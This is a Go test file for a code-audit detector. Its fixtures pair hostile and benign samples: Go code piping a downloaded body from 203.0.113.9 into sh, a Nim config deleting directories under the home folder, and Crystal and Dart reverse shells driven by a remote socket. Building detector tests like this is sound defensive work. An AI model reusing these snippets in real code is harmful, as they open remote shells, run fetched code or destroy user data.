package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestSets5657cReadings: readings added for red-team sets 56 and 57 (one
// helper's share), each with a hostile case at its severity and a benign
// look-alike:
//   - Go: an HTTP answer's Body given as standard input to sh -s, which
//     runs it as its script (download-exec); the same body given to tar
//     through sh -c is data;
//   - Nim: a config.nims emptying a cache root whose default is home,
//     through a proc's parameter, keeping only a few names
//     (destructive-command); a loop removing only the names it tests is a
//     cache cleaner;
//   - Crystal: a process whose input and output are a TCPSocket
//     (reverse-shell); a socket given only a process's output is a log
//     streamer;
//   - Dart: a shell and its -c flag held in variables, run on a command
//     a SecureSocket peer sent (reverse-shell); a fixed command is not.
func TestSets5657cReadings(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	goBoot := func(cmd string) string {
		return "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc ensure(dir string) error {\n\tclient := &http.Client{}\n\tresp, err := client.Get(\"http://203.0.113.9/bootstrap\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tdefer resp.Body.Close()\n\tcmd := exec.Command(" + cmd + ")\n\tcmd.Stdin = resp.Body\n\tcmd.Stdout = os.Stderr\n\treturn cmd.Run()\n}\n"
	}
	nims := func(test string) string {
		return "import std/[os, strutils]\nlet cacheRoot = getEnv(\"GEN_CACHE\", getEnv(\"HOME\"))\nlet key = \"gen_\" & \"v2\"\n\nproc prune(root: string) =\n  if not dirExists(root):\n    return\n  for d in listDirs(root):\n    if " + test + ":\n      rmDir(d)\n\nprune(cacheRoot)\nswitch(\"nimcache\", cacheRoot / key)\n"
	}
	crystal := func(run string) string {
		return "require \"socket\"\n\nmodule Runner::Console\n  def self.session(host : String, port : Int32)\n    sock = TCPSocket.new(host, port, connect_timeout: 10.seconds)\n    sock.sync = true\n    shell = ENV[\"SHELL\"]? || \"/bin/sh\"\n    " + run + "\n  ensure\n    sock.try &.close\n  end\nend\n"
	}
	dart := func(cmd string) string {
		return "import 'dart:convert';\nimport 'dart:io';\n\nclass Worker {\n  late SecureSocket _sock;\n  Future<void> connect(String host, int port) async {\n    _sock = await SecureSocket.connect(host, port, onBadCertificate: (_) => true);\n    await _sock.cast<List<int>>().transform(utf8.decoder).transform(const LineSplitter()).forEach(_handle);\n  }\n\n  Future<void> _handle(String line) async {\n    final msg = jsonDecode(line) as Map<String, dynamic>;\n    final cmd = " + cmd + ";\n    final shell = Platform.isWindows ? 'cmd' : '/bin/sh';\n    final flag = Platform.isWindows ? '/c' : '-c';\n    final r = await Process.run(shell, [flag, cmd]);\n    _sock.writeln(jsonEncode({'exit': r.exitCode, 'stdout': r.stdout}));\n  }\n}\n"
	}
	cases := map[string]sev4041{
		"hostile/go-body-sh-stdin":   {"download-exec", "internal/gen/format.go", goBoot(`"/bin/sh", "-s", "--", dir`), crit},
		"benign/go-body-sh-c-tar":    {"download-exec", "internal/gen/format.go", goBoot(`"sh", "-c", "tar -xzf - -C "+dir`), none},
		"benign/go-body-tar":         {"download-exec", "internal/gen/format.go", goBoot(`"tar", "-xz", "-C", dir`), none},
		"hostile/nims-home-default":  {"destructive-command", "templates/config.nims", nims("not d.extractFilename.startsWith(key)"), crit},
		"benign/nims-prefix-cleaner": {"destructive-command", "templates/config.nims", nims("d.extractFilename.startsWith(key)"), none},
		"hostile/crystal-sock-stdio": {"reverse-shell", "src/console.cr", crystal(`Process.run(shell, ["-i"], input: sock, output: sock, error: sock)`), crit},
		"benign/crystal-sock-output": {"reverse-shell", "src/console.cr", crystal(`Process.run("journalctl", ["-f", "-u", "probe"], output: sock)`), none},
		"hostile/dart-var-shell-msg": {"reverse-shell", "bin/agent.dart", dart("msg['cmd'] as String"), crit},
		"benign/dart-var-shell-fix":  {"reverse-shell", "bin/agent.dart", dart("'uptime'"), none},
	}
	checkByRule(t, cases)
}
